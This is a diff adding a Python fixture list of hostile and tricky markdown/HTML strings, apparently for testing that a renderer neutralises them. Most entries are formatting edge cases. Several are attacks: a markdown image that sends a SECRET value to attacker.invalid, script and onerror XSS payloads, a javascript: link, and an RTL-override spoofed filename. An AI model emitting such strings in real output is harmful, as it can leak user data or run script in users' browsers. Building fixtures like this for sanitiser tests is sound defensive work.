@@ -1,0 +1,26 @@
+"""Text that would turn into something else if it were not made inert."""
+
+HOSTILE = [
+    "![x](https://attacker.invalid/p.png?q=SECRET)",
+    "![x][r] and [r]\n\n[r]: https://attacker.invalid/p.png",
+    "<img src=x onerror=alert(1)> <img src='https://attacker.invalid/p.png'>",
+    "<script>alert(1)</script> <b>bold?</b> <!-- gone? --> <https://attacker.invalid>",
+    "from $12.50 to $19.75, $$E = mc^2$$ and \\(a_b\\) \\[c\\] $x$",
+    "~20~ ~~gone~~, 1~3 and 4~7",
+    "{question} {context} {{double}} {0} {'json': [1, 2]}",
+    "**bold** *it* __b__ _i_ a_b_c x_1*y_2*z_3 `code` ``c``",
+    "# h\n## h\nTitle\n=====\nTitle\n---",
+    "1. a\n2) b\n- x\n+ y\n* z\n- [ ] task\n> quote\n***",
+    "| a | b |\n|---|---|\n| 1 | 2 |",
+    "    indented\n\tcode\n\n\n\n```\nfence\n```\n~~~\nfence",
+    ":red[x] :blue-badge[y] :small[z] :help[h] :color[a]{foreground=red} ::leaf[x] :::note",
+    ":material/home: :material_home: :smile: :+1: :streamlit: a:b:c 10:30:20 :::smile:::",
+    "www.evil.com WWW.EVIL.COM http://x https://evil.example/a?b=c#d, me@evil.com mailto:me@evil.com xmpp:a@b.c",
+    "[a](javascript:alert(1)) [b](https://attacker.invalid) [^1]\n\n[^1]: note",
+    "a -> b <- c <-> d -- e >= f <= g ~= h\n->\n--",
+    "&lt; &amp; &#36; &copy",
+    "\\ \\\\ \\$5\\$ C:\\dir\\[x] \\\n end",
+    "가격은 ₩35,000 😀👨‍👩‍👧 **입니다**. (**나**)다",
+    "مرحبا بالعالم (شكرا) 12 שלום [1] \u202egnp.exe",
+    "[1] and [2][3] [4] [0] [01] **[1]** [1](https://attacker.invalid)",
+]
